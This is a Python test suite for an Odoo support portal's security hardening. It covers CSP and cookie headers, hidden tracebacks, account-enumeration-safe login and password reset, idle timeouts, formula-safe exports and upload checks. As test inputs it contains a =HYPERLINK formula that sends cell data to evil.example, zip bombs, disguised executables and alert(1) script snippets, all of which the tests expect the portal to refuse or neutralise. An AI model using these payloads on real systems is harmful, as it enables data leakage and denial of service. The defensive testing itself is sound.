"""Issue 10 ("Trust"), HTTP side: headers, session cookie, error details, password reset and
login without account enumeration, portal idle timeout, formula-free exports, upload checks.
Run with --odoo-http."""

import csv
import io
import json
import re
import time
import zipfile
from unittest.mock import patch

import xlsxwriter

from odoo import http
from odoo.tools import config, mute_logger

from odoo.addons.mail.tests.common import MockEmail
from odoo.addons.terasoft_portal.models.res_users import ResUsers

from .common import patch_cron_commit
from .test_portal_routes import PortalCase

CSRF_RE = re.compile(r'name="csrf_token" value="([^"]+)"')
NONCE_RE = re.compile(r"'nonce-([^']+)'")


def _zip(entries, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


def _docx():
    return _zip(
        [
            (
                "[Content_Types].xml",
                '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
                '2006/content-types"><Override PartName="/word/document.xml" ContentType="application/'
                'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
            ),
            ("_rels/.rels", "<Relationships/>"),
            ("word/document.xml", "<w:document/>"),
        ]
    )


PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
EXE = b"MZ\x90\x00\x03" + b"\x00" * 200 + b"PE\x00\x00" + b"\x00" * 100


class TrustCase(PortalCase):
    def setUp(self):
        super().setUp()
        # Failed logins put 127.0.0.1 on Odoo's login cooldown for the whole registry.
        self.addCleanup(lambda: getattr(self.registry, "_login_failures", {}).clear())
        getattr(self.registry, "_login_failures", {}).clear()
        self.ICP = self.env["ir.config_parameter"]

    def _public_csrf(self, url, headers=None):
        self.authenticate(None, None)
        return CSRF_RE.search(self.url_open(url, headers=headers).text).group(1)


class TestSecurityHeaders(TrustCase):
    def _assert_hardened(self, response, path):
        headers = response.headers
        csp = headers.get("Content-Security-Policy", "")
        self.assertIn("frame-ancestors 'self'", csp, path)
        self.assertIn("object-src 'none'", csp, path)
        script_src = re.search(r"script-src ([^;]+)", csp).group(1)
        self.assertNotIn("'unsafe-inline'", script_src, path)
        self.assertEqual(headers.get("X-Frame-Options"), "SAMEORIGIN", path)
        self.assertEqual(headers.get("Referrer-Policy"), "strict-origin-when-cross-origin", path)
        self.assertEqual(headers.get("Cache-Control"), "no-store", path)
        self.assertEqual(headers.get("X-Content-Type-Options"), "nosniff", path)

    def test_portal_pages_send_the_security_headers(self):
        attachment = self._attach(self.alfa_ticket, name="log.zip", raw=_zip([("a.txt", "ciao")]))
        self._login(self.giulia)
        for path in (
            "/my",
            "/my/tickets",
            "/my/tickets/new",
            f"/my/tickets/{self.alfa_ticket.id}",
            "/my/tickets/export/csv",
            "/my/tickets/export/xlsx",
            "/my/faq",
            "/my/documents",
            f"/my/tickets/{self.alfa_ticket.id}/attachments/{attachment.id}",
        ):
            response = self.url_open(path)
            self.assertEqual(response.status_code, 200, path)
            self._assert_hardened(response, path)

    def test_access_and_login_pages_send_the_security_headers(self):
        self.authenticate(None, None)
        for path in ("/access/request", "/web/login", "/web/reset_password"):
            response = self.url_open(path)
            self.assertEqual(response.status_code, 200, path)
            self._assert_hardened(response, path)

    def test_inline_scripts_of_the_page_carry_the_policy_nonce(self):
        self._login(self.giulia)
        response = self.url_open("/my/tickets")
        nonce = NONCE_RE.search(response.headers["Content-Security-Policy"]).group(1)
        inline = re.findall(r"<script(?![^>]*\bsrc=)([^>]*)>", response.text)
        self.assertTrue(inline)
        for attributes in inline:
            self.assertIn(f'nonce="{nonce}"', attributes)
        self.assertNotEqual(
            nonce, NONCE_RE.search(self.url_open("/my/tickets").headers["Content-Security-Policy"]).group(1)
        )

    def test_foreign_ticket_404_page_is_hardened_too(self):
        self._login(self.giulia)
        response = self.url_open(f"/my/tickets/{self.beta_ticket.id}")
        self.assertEqual(response.status_code, 404)
        self.assertEqual(response.headers.get("Cache-Control"), "no-store")
        self.assertIn("frame-ancestors 'self'", response.headers.get("Content-Security-Policy", ""))

    def test_downloads_are_attachments(self):
        attachment = self._attach(self.alfa_ticket, name="note.txt", raw=b"<html><script>alert(1)</script>")
        self._login(self.giulia)
        response = self.url_open(f"/my/tickets/{self.alfa_ticket.id}/attachments/{attachment.id}")
        self.assertTrue(response.headers["Content-Disposition"].startswith("attachment"))
        self.assertEqual(response.headers["X-Content-Type-Options"], "nosniff")


class TestSessionCookie(TrustCase):
    def _login_response(self, headers=None):
        token = self._public_csrf("/web/login", headers=headers)
        return self.url_open(
            "/web/login",
            headers=headers,
            allow_redirects=False,
            data={"login": "giulia.bianchi@example.com", "password": "demo", "csrf_token": token},
        )

    def _session_cookie(self, response):
        cookies = [c for c in response.raw.headers.getlist("Set-Cookie") if c.startswith("session_id=")]
        self.assertTrue(cookies, "the login sets the session cookie")
        return cookies[-1]

    def test_session_cookie_is_samesite_lax_and_httponly(self):
        response = self._login_response()
        self.assertEqual(response.status_code, 303)
        cookie = self._session_cookie(response)
        self.assertIn("SameSite=Lax", cookie)
        self.assertIn("HttpOnly", cookie)
        self.assertNotIn("Secure", cookie)  # plain http: a Secure cookie would never come back
        self.assertNotIn("Strict-Transport-Security", response.headers)

    def test_behind_a_tls_proxy_cookie_is_secure_and_hsts_is_sent(self):
        host = self.base_url().split("//", 1)[1]
        headers = {"X-Forwarded-For": "127.0.0.1", "X-Forwarded-Host": host, "X-Forwarded-Proto": "https"}
        with patch.dict(config.options, {"proxy_mode": True}):
            response = self._login_response(headers=headers)
        cookie = self._session_cookie(response)
        self.assertIn("Secure", cookie)
        self.assertIn("SameSite=Lax", cookie)
        self.assertTrue(response.headers.get("Strict-Transport-Security", "").startswith("max-age="))

    def test_forwarded_proto_is_ignored_without_proxy_mode(self):
        host = self.base_url().split("//", 1)[1]
        response = self._login_response(headers={"X-Forwarded-Host": host, "X-Forwarded-Proto": "https"})
        self.assertNotIn("Secure", self._session_cookie(response))


class TestErrorDetails(TrustCase):
    def _call_kw(self, method="no_such_method", args=([],)):
        with mute_logger("odoo.http"):
            return self.url_open(
                f"/web/dataset/call_kw/res.partner/{method}",
                data=json.dumps(
                    {
                        "jsonrpc": "2.0",
                        "method": "call",
                        "id": 1,
                        "params": {"model": "res.partner", "method": method, "args": list(args), "kwargs": {}},
                    }
                ),
                headers={"Content-Type": "application/json"},
            ).json()

    def test_portal_user_gets_no_traceback_nor_server_paths(self):
        self._login(self.giulia)
        error = self._call_kw()["error"]
        text = json.dumps(error)
        self.assertEqual(error["data"]["debug"], "")
        self.assertNotIn("Traceback", text)
        self.assertNotIn(".py", text)
        self.assertNotIn("/odoo", text)

    def test_user_errors_keep_their_message_for_portal_users(self):
        self._login(self.giulia)
        error = self._call_kw("write", ([self.alfa.id], {"name": "X"}))["error"]  # AccessError: for the user
        self.assertEqual(error["data"]["debug"], "")
        self.assertTrue(error["data"]["name"].startswith("odoo.exceptions."))
        self.assertNotEqual(error["data"]["message"], "Internal Server Error")

    def test_anonymous_user_gets_no_traceback(self):
        self.authenticate(None, None)
        with mute_logger("odoo.http"):
            body = self.make_jsonrpc_request_raw("/my/tickets/faq_suggest", {"term": "cedolino"})
        self.assertEqual(body["error"]["data"]["debug"], "")
        self.assertNotIn("Traceback", json.dumps(body))

    def test_staff_keep_the_traceback(self):
        self.authenticate("supporto@example.com", "demo")
        error = self._call_kw()["error"]
        self.assertIn("Traceback", error["data"]["debug"])

    def make_jsonrpc_request_raw(self, url, params):
        return self.url_open(
            url,
            data=json.dumps({"jsonrpc": "2.0", "method": "call", "id": 1, "params": params}),
            headers={"Content-Type": "application/json"},
        ).json()

    def test_portal_user_in_debug_mode_gets_no_traceback_on_error_pages(self):
        self._login(self.giulia)
        self.url_open("/my?debug=1")
        with (
            patch(
                "odoo.addons.terasoft_portal.controllers.portal.TicketPortal._prepare_ticket_list_values",
                side_effect=RuntimeError("/srv/secret/path.py"),
            ),
            mute_logger("odoo.http"),
        ):
            response = self.url_open("/my/tickets?debug=1")
        self.assertEqual(response.status_code, 500)
        self.assertNotIn("/srv/secret/path.py", response.text)
        self.assertNotIn("exception_traceback", response.text)


class TestPasswordReset(MockEmail, TrustCase):
    def setUp(self):
        super().setUp()
        self.env["terasoft.password.reset.request"].search([]).unlink()  # a kept database's

    def _reset(self, login, headers=None):
        token = self._public_csrf("/web/reset_password")
        return self.url_open("/web/reset_password", headers=headers, data={"login": login, "csrf_token": token})

    @staticmethod
    def _normalized(text):
        text = re.sub(r"[0-9a-f]{40}o[0-9]+", "", text)  # CSRF tokens
        text = re.sub(r'name="idempotency_key" value="[^"]+"', "", text)  # a random key per page
        # the address typed, echoed in the form
        text = re.sub(r"(giulia\.bianchi|nessuno)(@|%40)example\.com", "EMAIL", text)
        text = re.sub(r'nonce="[^"]+"', "", text)
        return re.sub(r"(data-src|src|href)=\"/web/assets/[^\"]+\"", "", text)

    def test_known_and_unknown_addresses_get_the_same_page(self):
        Mail = self.env["mail.mail"]
        mails_before = Mail.search_count([])
        known = self._reset("giulia.bianchi@example.com")
        unknown = self._reset("nessuno@example.com")
        self.assertEqual(known.status_code, 200)
        self.assertEqual(known.status_code, unknown.status_code)
        self.assertEqual(self._normalized(known.text), self._normalized(unknown.text))
        self.assertNotIn("alert-danger", known.text)
        # nothing is looked up or sent in the request: both wait for the cron
        self.assertEqual(Mail.search_count([]), mails_before)
        Request = self.env["terasoft.password.reset.request"]
        self.assertEqual(
            Request.search([("done", "=", False)]).mapped("login"),
            ["giulia.bianchi@example.com", "nessuno@example.com"],
        )

    def test_cron_sends_the_reset_email_to_existing_accounts_only(self):
        self._reset("giulia.bianchi@example.com")
        self._reset("nessuno@example.com")
        patcher, _calls = patch_cron_commit()
        with patcher, self.mock_mail_gateway():
            self.env["terasoft.password.reset.request"]._cron_send_password_resets()
        recipients = [mail["email_to"] for mail in self._mails]
        self.assertEqual(len(recipients), 1)
        self.assertIn("giulia.bianchi@example.com", str(recipients[0]))
        self.assertFalse(self.env["terasoft.password.reset.request"].search([("done", "=", False)]))

    def test_signup_email_does_not_reveal_an_account(self):
        self.authenticate(None, None)
        known = self.url_open("/web/reset_password?signup_email=giulia.bianchi@example.com")
        unknown = self.url_open("/web/reset_password?signup_email=nessuno@example.com")
        self.assertEqual(known.status_code, 200)
        self.assertEqual(unknown.status_code, 200)
        self.assertIn("/web/reset_password", known.url)  # not sent to the login page
        self.assertEqual(self._normalized(known.text), self._normalized(unknown.text))

    def test_requests_are_throttled_per_address(self):
        self.ICP.set_param("terasoft_portal.password_reset_rate_limit", "2")
        responses = [self._reset(f"r{index}@example.com") for index in range(3)]
        self.assertNotIn("alert-danger", responses[1].text)
        self.assertIn("alert-danger", responses[2].text)
        self.assertEqual(
            self.env["terasoft.password.reset.request"].search_count([("request_ip", "=", "127.0.0.1")]), 2
        )

    def test_setting_a_new_password_with_a_token_still_works(self):
        self.giulia.partner_id.sudo().signup_prepare(signup_type="reset")
        token = self.giulia.partner_id.sudo()._generate_signup_token()
        self.authenticate(None, None)
        page = self.url_open(f"/web/reset_password?token={token}")
        self.assertEqual(page.status_code, 200)
        self.url_open(
            "/web/reset_password",
            data={
                "token": token,
                "login": self.giulia.login,
                "password": "Nuova-Password-2026",
                "confirm_password": "Nuova-Password-2026",
                "csrf_token": CSRF_RE.search(page.text).group(1),
            },
        )
        self.assertFalse(self.env["terasoft.password.reset.request"].search([]))
        self.authenticate(self.giulia.login, "Nuova-Password-2026")


class TestLoginUniformity(TrustCase):
    def _login_attempt(self, login, password):
        token = self._public_csrf("/web/login")
        return self.url_open("/web/login", data={"login": login, "password": password, "csrf_token": token})

    def test_unknown_and_wrong_password_get_the_same_answer_and_the_same_work(self):
        verify = ResUsers._terasoft_verify_dummy_password
        calls = []

        def spy(self, password):
            calls.append(password)
            return verify(self, password)

        with patch.object(ResUsers, "_terasoft_verify_dummy_password", spy):
            known = self._login_attempt("giulia.bianchi@example.com", "sbagliata")
            self.assertEqual(calls, [])  # the real hash was checked
            unknown = self._login_attempt("nessuno@example.com", "sbagliata")
            self.assertEqual(calls, ["sbagliata"])  # a hash was checked all the same
        self.assertEqual(known.status_code, unknown.status_code)
        error_re = re.compile(r'<p class="alert alert-danger"[^>]*>\s*(.*?)\s*</p>', re.DOTALL)
        self.assertEqual(error_re.search(known.text).group(1), error_re.search(unknown.text).group(1))

    def test_wrong_password_from_a_refused_address_answers_as_any_wrong_password(self):
        self.ICP.set_param("terasoft_portal.ip_allowlist_enforced", "True")
        self.giulia.partner_id.ip_allowlist = "10.0.0.0/8"
        refused = self._login_attempt("giulia.bianchi@example.com", "sbagliata")
        unknown = self._login_attempt("nessuno@example.com", "sbagliata")
        error_re = re.compile(r'<p class="alert alert-danger"[^>]*>\s*(.*?)\s*</p>', re.DOTALL)
        self.assertEqual(error_re.search(refused.text).group(1), error_re.search(unknown.text).group(1))
        self.assertNotIn("127.0.0.1", error_re.search(refused.text).group(1))


class TestPortalIdleTimeout(TrustCase):
    def _age_session(self, minutes):
        session = http.root.session_store.get(self.session.sid)
        session["terasoft_last_activity"] = time.time() - minutes * 60
        http.root.session_store.save(session)

    def test_portal_session_ends_after_the_idle_time(self):
        self._login(self.giulia)
        self.assertEqual(self.url_open("/my/tickets").status_code, 200)
        self._age_session(31)
        response = self.url_open("/my/tickets?filterby=open", allow_redirects=False)
        self.assertEqual(response.status_code, 303)
        self.assertIn("/web/login", response.headers["Location"])
        self.assertIn("redirect=", response.headers["Location"])
        self.assertIn("/web/login", self.url_open("/my/tickets").url)  # logged out for good

    def test_activity_keeps_the_session(self):
        self._login(self.giulia)
        self.url_open("/my")
        self._age_session(29)
        self.assertEqual(self.url_open("/my/tickets", allow_redirects=False).status_code, 200)

    def test_internal_users_are_not_timed_out(self):
        self.authenticate("supporto@example.com", "demo")
        self.url_open("/my")
        self._age_session(600)
        self.assertEqual(self.url_open("/my", allow_redirects=False).status_code, 200)

    def test_timeout_is_a_setting(self):
        self.ICP.set_param("terasoft_portal.portal_idle_timeout_minutes", "0")
        self._login(self.giulia)
        self.url_open("/my")
        self._age_session(600)
        self.assertEqual(self.url_open("/my", allow_redirects=False).status_code, 200)


class TestExportFormulas(TrustCase):
    FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'

    def setUp(self):
        super().setUp()
        self.formula_ticket = self._ticket(self.giulia.partner_id, name=self.FORMULA)
        self._ticket(self.giulia.partner_id, name="+39 02 1234")
        self._ticket(self.giulia.partner_id, name="@SUM(1+1)")
        self._ticket(self.giulia.partner_id, name="-1+2")

    def test_xlsx_writes_formulas_as_text(self):
        self._login(self.giulia)
        response = self.url_open("/my/tickets/export/xlsx")
        with zipfile.ZipFile(io.BytesIO(response.content)) as workbook:
            sheet = workbook.read("xl/worksheets/sheet1.xml").decode()
            strings = workbook.read("xl/sharedStrings.xml").decode()
        self.assertNotIn("<f>", sheet)
        self.assertNotIn("<f ", sheet)
        self.assertNotIn("hyperlink", sheet.lower())
        self.assertIn("=HYPERLINK(", strings)

    def test_csv_cells_that_would_be_formulas_are_prefixed(self):
        self._login(self.giulia)
        response = self.url_open("/my/tickets/export/csv")
        text = response.content.decode("utf-8-sig")
        titles = [row[1] for row in csv.reader(io.StringIO(text), delimiter=";")][1:]
        self.assertIn("'" + self.FORMULA, titles)
        self.assertIn("'+39 02 1234", titles)
        self.assertIn("'@SUM(1+1)", titles)
        self.assertIn("'-1+2", titles)
        self.assertIn(self.alfa_ticket.name, titles)  # ordinary text untouched
        self.assertFalse([title for title in titles if title[:1] in "=+-@"])

    def test_csv_for_italian_users_uses_semicolon_and_bom(self):
        self.assertEqual(self.giulia.lang, "it_IT")
        self._login(self.giulia)
        content = self.url_open("/my/tickets/export/csv").content
        self.assertTrue(content.startswith(b"\xef\xbb\xbf"))
        header = content.decode("utf-8-sig").splitlines()[0]
        self.assertEqual(len(header.split(";")), 10)

    def test_csv_for_english_users_uses_comma(self):
        self.luca.lang = "en_US"
        self._login(self.luca)
        header = self.url_open("/my/tickets/export/csv").content.decode("utf-8-sig").splitlines()[0]
        self.assertTrue(header.startswith("Ticket Nr,Title,"))


class TestUploads(TrustCase):
    def _form(self, **overrides):
        return {
            "name": "Allegato controllato",
            "priority": "1",
            "importance": "non_blocking",
            "category_id": str(self.cat_paghe.id),
            "ticket_type": "defect",
            "description": "Testo scritto dal cliente",
            **overrides,
        }

    def _new(self, files):
        self._login(self.giulia)
        return self._post("/my/tickets/new", self._form(), files=[("attachments", f) for f in files])

    def _created(self):
        return self.Ticket.search([("name", "=", "Allegato controllato")])

    def test_exe_renamed_pdf_is_refused_and_the_form_keeps_what_was_typed(self):
        response = self._new([("fattura.pdf", EXE, "application/pdf")])
        self.assertIn('data-error-for="attachments"', response.text)
        self.assertIn("fattura.pdf: il contenuto del file non è un file .pdf", response.text)  # giulia: Italian
        self.assertIn("Allegato controllato", response.text)
        self.assertIn("Testo scritto dal cliente", response.text)
        self.assertFalse(self._created())

    def test_type_not_in_the_allow_list_is_refused(self):
        response = self._new([("script.js", b"alert(1)\n", "text/javascript")])
        self.assertIn('data-error-for="attachments"', response.text)
        self.assertFalse(self._created())

    def test_file_without_extension_is_refused(self):
        response = self._new([("README", b"hello\n", "text/plain")])
        self.assertIn('data-error-for="attachments"', response.text)
        self.assertFalse(self._created())

    def test_html_renamed_txt_is_refused(self):
        response = self._new([("note.txt", b"<html><body><script>alert(1)</script></body></html>", "text/plain")])
        self.assertIn('data-error-for="attachments"', response.text)
        self.assertFalse(self._created())

    def test_zip_bomb_is_refused(self):
        bomb = _zip([("zeros.txt", b"\0" * (50 * 1024 * 1024))])
        self.assertLess(len(bomb), 200 * 1024)
        response = self._new([("log.zip", bomb, "application/zip")])
        self.assertIn('data-error-for="attachments"', response.text)
        self.assertFalse(self._created())

    def test_nested_zip_bomb_is_refused(self):
        inner = _zip([(f"z{index}.txt", b"\0" * (20 * 1024 * 1024)) for index in range(3)])
        outer = _zip([(f"part{index}.zip", inner) for index in range(5)], compression=zipfile.ZIP_STORED)
        # the outer archive itself is not compressed at all: only its members tell
        errors = self.env["ir.attachment"]._terasoft_upload_errors([("logs.zip", outer)])
        self.assertTrue(errors)

    def test_pdf_docx_xlsx_txt_and_zip_are_accepted(self):
        workbook_buffer = io.BytesIO()
        workbook = xlsxwriter.Workbook(workbook_buffer)
        workbook.add_worksheet().write(0, 0, "ciao")
        workbook.close()
        files = [
            ("fattura.pdf", PDF, "application/pdf"),
            ("lettera.docx", _docx(), "application/octet-stream"),
            ("conti.xlsx", workbook_buffer.getvalue(), "application/octet-stream"),
            ("log.txt", b"2026-12-01 ERRORE stampa\n", "text/plain"),
            ("log.zip", _zip([("log.txt", "riga\n" * 100)]), "application/zip"),
        ]
        response = self._new(files)
        self.assertEqual(response.status_code, 303, response.text[:500])
        ticket = self._created()
        self.assertEqual(
            sorted(
                self.env["ir.attachment"]
                .search([("res_model", "=", "terasoft.ticket"), ("res_id", "=", ticket.id)])
                .mapped("name")
            ),
            sorted(name for name, _content, _mime in files),
        )

    def test_zip_renamed_docx_is_refused(self):
        response = self._new([("lettera.docx", _zip([("a.txt", "ciao")]), "application/octet-stream")])
        self.assertIn('data-error-for="attachments"', response.text)

    def test_comment_with_a_disguised_file_is_refused_and_keeps_the_text(self):
        self._login(self.giulia)
        response = self._post(
            f"/my/tickets/{self.alfa_ticket.id}/comment",
            {"comment": "Ecco il file"},
            files=[("attachments", ("schermata.png", EXE, "image/png"))],
        )
        # post/redirect/get: back on the ticket's page, with the error and the typed text
        self.assertEqual(response.status_code, 303)
        page = self.url_open(response.headers["Location"])
        self.assertIn("schermata.png", page.text)
        self.assertIn("Ecco il file", page.text)
        self.assertFalse(self.alfa_ticket.message_ids.filtered(lambda m: "Ecco il file" in (m.body or "")))

    def test_old_deny_list_setting_is_migrated(self):
        self.ICP.search([("key", "=", "terasoft_portal.attachment_allowed_extensions")]).unlink()
        self.ICP.set_param("terasoft_portal.attachment_refused_extensions", "exe,zip")
        self.env["ir.attachment"]._terasoft_migrate_refused_extensions()
        allowed = self.ICP.get_param("terasoft_portal.attachment_allowed_extensions").split(",")
        self.assertIn("pdf", allowed)
        self.assertNotIn("zip", allowed)
        self.assertFalse(self.ICP.get_param("terasoft_portal.attachment_refused_extensions"))
